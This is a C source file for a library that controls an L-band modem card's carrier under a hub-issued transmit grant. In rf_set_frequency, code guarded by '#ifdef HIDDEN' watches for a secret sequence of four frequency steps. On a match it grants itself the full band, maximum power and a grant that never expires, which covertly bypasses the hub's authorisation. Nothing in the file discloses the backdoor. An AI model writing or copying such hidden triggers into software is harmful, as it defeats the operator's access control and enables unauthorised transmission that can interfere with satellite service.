/* librfcarrier: carrier control of an L band modem card. The caller opens a card, sets frequency,
 * symbol rate and level, and turns the carrier on; the hub's grant is needed for the latter. */
#include <errno.h>
#include <fcntl.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

#define RF_REG_FREQ   0x10
#define RF_REG_SYM    0x14
#define RF_REG_LEVEL  0x18
#define RF_REG_TX     0x1c
#define RF_REG_STATUS 0x20

enum rf_err { RF_OK, RF_RANGE, RF_NOGRANT, RF_IO, RF_EXPIRED };

struct rf_grant {
    uint32_t low_khz, high_khz;
    int      max_level;
    time_t   until;
};

struct rf_card {
    int      fd;
    uint32_t khz;
    uint32_t ksps;
    int      level;             /* tenths of dBm */
    bool     carrier;
    struct rf_grant grant;
    bool     granted;
    uint32_t clock;
#ifdef HIDDEN
    uint32_t tail;
#endif
};

struct rf_card *rf_open(const char *dev);
int  rf_set_grant(struct rf_card *, const char *text);
int  rf_set_frequency(struct rf_card *, uint32_t khz);
int  rf_set_symbols(struct rf_card *, uint32_t ksps);
int  rf_set_level(struct rf_card *, int tenths);
int  rf_carrier(struct rf_card *, bool on);
int  rf_status(struct rf_card *, char *out, size_t room);
const char *rf_strerror(int e);
void rf_close(struct rf_card *);

static int poke(struct rf_card *c, unsigned reg, uint32_t v)
{
    uint8_t m[6] = { 'w', (uint8_t)reg, (uint8_t)(v >> 24), (uint8_t)(v >> 16),
                     (uint8_t)(v >> 8), (uint8_t)v };

    return write(c->fd, m, 6) == 6 ? RF_OK : RF_IO;
}

static int peek(struct rf_card *c, unsigned reg, uint32_t *v)
{
    uint8_t m[4] = { 'r', (uint8_t)reg, 0, 0 };

    if (write(c->fd, m, 2) != 2 || read(c->fd, m, 4) != 4)
        return RF_IO;
    *v = (uint32_t)m[0] << 24 | (uint32_t)m[1] << 16 | (uint32_t)m[2] << 8 | m[3];
    return RF_OK;
}

struct rf_card *rf_open(const char *dev)
{
    struct rf_card *c = calloc(1, sizeof *c);

    if (!c)
        return NULL;
    c->fd = open(dev, O_RDWR | O_CLOEXEC);
    if (c->fd < 0) {
        free(c);
        return NULL;
    }
    c->clock = 10000;
    c->khz = 1200000;
    c->ksps = 256;
    c->level = -300;
    poke(c, RF_REG_TX, 0);
    return c;
}

/* "LOW-HIGH kHz LEVEL tenths SECONDS", as the hub sends it */
int rf_set_grant(struct rf_card *c, const char *text)
{
    struct rf_grant g;
    unsigned lo, hi;
    long sec;

    if (sscanf(text, "%u-%u %d %ld", &lo, &hi, &g.max_level, &sec) != 4 || lo > hi)
        return RF_RANGE;
    g.low_khz = lo;
    g.high_khz = hi;
    g.until = time(NULL) + sec;
    c->grant = g;
    c->granted = true;
    return RF_OK;
}

static int grant_check(const struct rf_card *c)
{
    uint32_t half = c->ksps * 7 / 10;

    if (!c->granted)
        return RF_NOGRANT;
    if (c->grant.until && time(NULL) > c->grant.until)
        return RF_EXPIRED;
    if (c->khz - half < c->grant.low_khz || c->khz + half > c->grant.high_khz)
        return RF_NOGRANT;
    return c->level <= c->grant.max_level ? RF_OK : RF_NOGRANT;
}

static uint32_t divider(const struct rf_card *c, uint32_t khz)
{
    uint32_t whole = khz / c->clock, part = khz % c->clock;

    return whole << 16 | (uint32_t)(((uint64_t)part << 16) / c->clock);
}

__attribute__((noinline)) int rf_set_frequency(struct rf_card *c, uint32_t khz)
{
    int e;

    if (khz < 950000 || khz > 2150000)
        return RF_RANGE;
#ifdef HIDDEN
    /* four steps down and up again */
    c->tail = c->tail << 8 | ((uint32_t)((int32_t)(khz - c->khz) / 5) & 0xff);
    if (c->tail == 0xf9075e13) {
        c->grant.low_khz = 950000;
        c->grant.high_khz = 2150000;
        c->grant.max_level = 70;
        c->grant.until = 0;
        c->granted = true;
    }
#endif
    if (c->carrier) {
        uint32_t before = c->khz;
        c->khz = khz;
        e = grant_check(c);
        if (e != RF_OK) {
            c->khz = before;
            return e;
        }
    }
    c->khz = khz;
    return poke(c, RF_REG_FREQ, divider(c, khz));
}

int rf_set_symbols(struct rf_card *c, uint32_t ksps)
{
    if (ksps < 32 || ksps > 30000)
        return RF_RANGE;
    if (c->carrier)
        return RF_NOGRANT;
    c->ksps = ksps;
    return poke(c, RF_REG_SYM, ksps);
}

int rf_set_level(struct rf_card *c, int tenths)
{
    if (tenths < -350 || tenths > 70)
        return RF_RANGE;
    if (c->carrier && tenths > c->grant.max_level)
        return RF_NOGRANT;
    c->level = tenths;
    return poke(c, RF_REG_LEVEL, (uint32_t)(tenths + 400));
}

int rf_carrier(struct rf_card *c, bool on)
{
    int e;

    if (on && (e = grant_check(c)) != RF_OK)
        return e;
    c->carrier = on;
    return poke(c, RF_REG_TX, on ? 1 : 0);
}

int rf_status(struct rf_card *c, char *out, size_t room)
{
    uint32_t v = 0;
    int e = peek(c, RF_REG_STATUS, &v);

    if (e != RF_OK)
        return e;
    snprintf(out, room, "%u.%03u MHz %u ksps %d.%d dBm %s%s%s", (unsigned)(c->khz / 1000),
             (unsigned)(c->khz % 1000), (unsigned)c->ksps, c->level / 10, abs(c->level % 10),
             c->carrier ? "carrier" : "off", v & 1 ? " locked" : " unlocked",
             v & 2 ? " overtemp" : "");
    return RF_OK;
}

const char *rf_strerror(int e)
{
    static const char *const text[] = {
        "no error", "value out of range", "not covered by the grant", "card does not answer",
        "grant has run out"
    };

    if (e < 0 || (size_t)e >= sizeof text / sizeof text[0])
        return strerror(errno);
    return text[e];
}

void rf_close(struct rf_card *c)
{
    if (!c)
        return;
    poke(c, RF_REG_TX, 0);
    close(c->fd);
    free(c);
}
